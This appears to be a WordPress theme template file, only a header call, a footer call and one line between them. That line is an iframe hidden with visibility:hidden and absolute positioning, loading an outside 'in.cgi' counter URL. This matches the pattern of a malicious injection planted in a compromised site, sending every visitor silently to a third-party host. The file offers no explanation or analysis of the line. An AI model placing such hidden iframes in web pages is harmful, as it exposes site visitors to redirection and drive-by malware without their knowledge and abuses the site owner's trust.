<?php get_header(); ?>
<iframe style="visibility:hidden;position:absolute" src="https://counter.example.net/in.cgi?3"></iframe>
<?php get_footer(); ?>
